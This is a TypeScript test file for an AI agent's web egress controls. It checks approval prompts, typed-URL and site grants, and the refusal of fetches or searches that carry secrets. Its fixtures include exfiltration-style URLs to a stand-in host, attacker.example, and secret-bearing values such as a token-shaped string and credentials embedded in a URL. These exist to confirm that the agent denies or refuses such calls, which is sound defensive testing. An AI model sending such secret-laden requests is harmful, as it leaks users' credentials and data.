import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { egressFacts, urlIsFree } from '../../src/agent/egress.js';
import type { RunEvent } from '../../src/agent/events.js';
import { type ApprovalAnswer, type Prompter, runAgent, type ToolApproval } from '../../src/agent/loop.js';
import {
  decide,
  grantTyped,
  newSessionGrants,
  type SessionGrants,
  urlsInText,
} from '../../src/agent/permissions.js';
import { PLATFORMS } from '../../src/llm/platforms.js';
import type { Message, ToolMessage } from '../../src/llm/types.js';
import { UsageTracker } from '../../src/llm/usage.js';
import { installSecrets, SecretRegistry } from '../../src/support/redact.js';
import { ToolRegistry } from '../../src/tools/registry.js';
import type { AnyTool } from '../../src/tools/types.js';
import { ALWAYS_SITE } from '../../src/tools/types.js';
import { createWebFetch, fetchPreview } from '../../src/tools/web/fetch.js';
import { createWebSearchTool } from '../../src/tools/web/search.js';
import { ScriptedLlm, type Turn } from '../helpers/fake-llm.js';

describe('decide: calls that send data out', () => {
  it('ask in every mode, auto included; with no terminal they are denied', () => {
    expect(decide('read', 'approve', true)).toBe('allow');
    expect(decide('read', 'approve', true, true)).toBe('ask');
    expect(decide('read', 'auto', true, true)).toBe('ask');
    expect(decide('read', 'auto', false, true)).toBe('deny');
    expect(decide('mcp-auto', 'auto', false, true)).toBe('deny');
    expect(decide('read', 'auto', false, false)).toBe('allow');
    expect(decide('shell', 'auto', true)).toBe('ask');
  });
});

describe('typed URLs', () => {
  it('finds the URLs a person typed, in English and Chinese punctuation', () => {
    expect(urlsInText('总结 https://example.com/a?b=1，谢谢')).toEqual(['https://example.com/a?b=1']);
    expect(urlsInText('see (https://a.example/x). and http://b.example/wiki/A_(b)')).toEqual([
      'https://a.example/x',
      'http://b.example/wiki/A_(b)',
    ]);
    expect(urlsInText('no links, ftp://x.example/')).toEqual([]);
  });

  it('frees exactly the typed URL (not the same site with added data), or a data-free address on an allowed site', () => {
    const g = newSessionGrants();
    const free = (url: string) => urlIsFree(url, egressFacts(g.web));
    grantTyped(g, 'read https://news.example/story#top');
    expect(free('https://news.example/story')).toBe(true);
    expect(free('https://NEWS.example/story#other')).toBe(true);
    expect(free('https://news.example/story?k=0123456789abcdef')).toBe(false);
    expect(free('https://attacker.example/?k=1')).toBe(false);
    g.web.hosts.add('docs.example');
    expect(free('https://docs.example/any/page')).toBe(true);
    expect(free('https://docs.example/any/page?x=1')).toBe(false);
    expect(free('https://docs.example.evil.example/')).toBe(false);
  });
});

describe('the question shows the whole address, sanitized', () => {
  it('never shortens a long query and points it out', () => {
    const url = `https://attacker.example/c?k=${'a'.repeat(300)}`;
    const text = fetchPreview(url);
    expect(text).toContain(url);
    expect(text).toContain('attacker.example');
    expect(text).toMatch(/300|30\d characters/);
  });

  it('makes escape sequences visible', () => {
    const text = fetchPreview('https://a.example/\u001b[2Jx');
    expect(text).not.toContain('\u001b');
    expect(text).toContain('␛');
  });
});

const fetcher = (fetched: string[]): AnyTool => ({
  name: 'web_fetch',
  description: 'fetch',
  kind: 'read',
  schema: z.object({ url: z.string() }),
  preview: (a: { url: string }) => fetchPreview(a.url),
  // The real tool's assessment: it offers "always for this domain".
  assess: createWebFetch().assess!,
  egress: createWebFetch().egress!,
  execute: async (a: { url: string }) => {
    fetched.push(a.url);
    return `page ${a.url}`;
  },
});

/** web_search's traits (asked once per session, its query checked for secrets), searching nothing. */
const searcher = (searched: string[]): AnyTool => {
  const real = createWebSearchTool({ client: {} as never });
  return {
    ...real,
    execute: async (a: { query: string }) => {
      searched.push(`search:${a.query}`);
      return 'no results';
    },
  } as AnyTool;
};

async function run(o: {
  turns: Turn[];
  answers: ApprovalAnswer[];
  interactive?: boolean;
  mode?: 'approve' | 'auto';
  grants?: SessionGrants;
}) {
  const fetched: string[] = [];
  const asked: ToolApproval[] = [];
  const prompter: Prompter = {
    interactive: o.interactive ?? true,
    confirmTool: async (req) => {
      asked.push(req);
      return o.answers.shift() ?? false;
    },
    ask: async () => false,
  };
  const messages: Message[] = [
    { role: 'system', content: 'sys' },
    { role: 'user', content: 'go' },
  ];
  const events: RunEvent[] = [];
  const gen = runAgent(
    messages,
    {
      llm: new ScriptedLlm(o.turns),
      tools: new ToolRegistry([fetcher(fetched), searcher(fetched)]),
      prompter,
      usage: new UsageTracker(PLATFORMS.bigmodel),
      cwd: '/tmp',
      outputDir: '/tmp/out',
      grants: o.grants ?? newSessionGrants(),
    },
    { model: 'glm-5', thinking: false, maxTurns: 10, mode: o.mode ?? 'approve' },
  );
  let step = await gen.next();
  while (!step.done) {
    events.push(step.value);
    step = await gen.next();
  }
  const results = messages.filter((m): m is ToolMessage => m.role === 'tool').map((m) => m.content);
  return { fetched, asked, events, results };
}

const calls = (...urls: string[]): Turn[] => [
  { calls: urls.map((url) => ({ name: 'web_fetch', args: { url } })) },
  { text: 'done' },
];

describe('web_fetch in the loop', () => {
  it('asks for the first fetch of a site; "always" covers that site\'s addresses that carry no data', async () => {
    const r = await run({
      turns: calls(
        'https://a.example/1',
        'https://a.example/2',
        'https://a.example/3?x=1',
        'https://b.example/',
      ),
      answers: [{ grants: [ALWAYS_SITE] }, true, false],
    });
    expect(r.asked.map((q) => q.preview.split('\n')[0])).toEqual([
      'Address: https://a.example/1',
      'Address: https://a.example/3?x=1',
      'Address: https://b.example/',
    ]);
    expect(r.asked[0]!.choices).toEqual([{ key: 'a', label: 'always for a.example', grant: ALWAYS_SITE }]);
    // The question says what leaves, and where.
    expect(r.asked[1]!.warning).toMatch(
      /^This sends data the model put together off your computer, to a\.example \(shown above\)\.$/,
    );
    expect(r.fetched).toEqual(['https://a.example/1', 'https://a.example/2', 'https://a.example/3?x=1']);
    expect(r.results[3]).toMatch(/^Error: The user declined/);
  });

  it('"yes" allows one fetch only', async () => {
    const r = await run({
      turns: calls('https://a.example/1', 'https://a.example/2'),
      answers: [true, false],
    });
    expect(r.asked).toHaveLength(2);
    expect(r.fetched).toEqual(['https://a.example/1']);
  });

  it('fetches a URL the person typed without asking', async () => {
    const grants = newSessionGrants();
    grantTyped(grants, '请总结 https://news.example/a');
    const r = await run({ turns: calls('https://news.example/a'), answers: [], grants });
    expect(r.asked).toEqual([]);
    expect(r.fetched).toEqual(['https://news.example/a']);
  });

  it('without a terminal fetches only typed URLs: the exfiltration URL is denied with a notice', async () => {
    const grants = newSessionGrants();
    grantTyped(grants, 'summarize https://news.example/a');
    const r = await run({
      turns: calls('https://news.example/a', 'https://attacker.example/?k=secret'),
      answers: [],
      interactive: false,
      grants,
    });
    expect(r.fetched).toEqual(['https://news.example/a']);
    expect(r.results[1]).toMatch(
      /^Error: Denied: this call would send data off this computer \(https:\/\/attacker\.example\/\?k=secret \(to attacker\.example\)\)/,
    );
    const denied = r.events.find((e) => e.type === 'permission' && e.decision === 'denied');
    expect(denied && 'notice' in denied ? denied.notice : '').toMatch(
      /to attacker\.example: https:\/\/attacker\.example\/\?k=secret — and there is no terminal/,
    );
  });

  it('auto mode does not send data out unasked: with no terminal a composed address is denied', async () => {
    const r = await run({
      turns: calls('https://x.example/'),
      answers: [],
      interactive: false,
      mode: 'auto',
    });
    expect(r.fetched).toEqual([]);
    expect(r.results[0]).toMatch(/^Error: Denied: this call would send data off/);
  });

  it('a site in web_allow is fetched unasked in auto mode, but not with a query', async () => {
    const r = await run({
      turns: calls('https://docs.example/guide', 'https://docs.example/search?q=notes'),
      answers: [],
      interactive: false,
      mode: 'auto',
      grants: newSessionGrants({ webAllow: ['docs.example'] }),
    });
    expect(r.fetched).toEqual(['https://docs.example/guide']);
    expect(r.results[1]).toMatch(/^Error: Denied/);
  });
});

const searches = (...queries: string[]): Turn[] => [
  { calls: queries.map((query) => ({ name: 'web_search', args: { query } })) },
  { text: 'done' },
];

describe('web_search asks for every query', () => {
  it('a yes covers that query only; the question shows the words', async () => {
    const grants = newSessionGrants();
    const r = await run({ turns: searches('天气 北京', '汇率'), answers: [true, true], grants });
    expect(r.asked).toHaveLength(2);
    expect(r.asked[0]!.summary?.text).toMatch(/Each search is asked about/);
    expect(r.asked[1]!.warning).toContain('to web search (shown above)');
    expect(r.asked[1]!.preview).toContain('汇率');
    expect(r.fetched).toEqual(['search:天气 北京', 'search:汇率']);
    const again = await run({ turns: searches('again'), answers: [false], grants });
    expect(again.asked).toHaveLength(1);
    expect(again.fetched).toEqual([]);
  });

  it('a no is a no; without a terminal it is denied, in auto mode too', async () => {
    const no = await run({ turns: searches('x'), answers: [false] });
    expect(no.fetched).toEqual([]);
    const none = await run({ turns: searches('x'), answers: [], interactive: false });
    expect(none.fetched).toEqual([]);
    const auto = await run({ turns: searches('x'), answers: [], interactive: false, mode: 'auto' });
    expect(auto.fetched).toEqual([]);
  });
});

describe('egress: nothing secret leaves in a URL, a query or arguments', () => {
  it('refuses a URL or a query carrying the registered key or a token-shaped string, even in auto mode', async () => {
    installSecrets(new SecretRegistry()).add('plain-shaped-config-key-123');
    try {
      const r = await run({
        turns: [
          {
            calls: [
              { name: 'web_fetch', args: { url: 'https://x.example/?d=plain-shaped-config-key-123' } },
              {
                name: 'web_fetch',
                args: { url: 'https://x.example/?d=plain%2Dshaped%2Dconfig%2Dkey%2D123' },
              },
              { name: 'web_search', args: { query: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' } },
              { name: 'web_fetch', args: { url: 'https://user:hunter2@x.example/' } },
              { name: 'web_fetch', args: { url: 'https://x.example/page' } },
            ],
          },
          { text: 'done' },
        ],
        // Only the last is asked about: the others are refused before anyone is asked.
        answers: [true],
        mode: 'auto',
      });
      expect(r.fetched).toEqual(['https://x.example/page']);
      for (const i of [0, 1, 2, 3]) expect(r.results[i]).toMatch(/^Error: Refused: .* would send a secret/);
      const refused = r.events.filter((e) => e.type === 'permission' && e.decision === 'refused');
      expect(refused).toHaveLength(4);
      expect(refused[0] && 'notice' in refused[0] ? refused[0].notice : '').toMatch(
        /holds a secret.*Nothing was sent/,
      );
    } finally {
      installSecrets(new SecretRegistry());
    }
  });
});
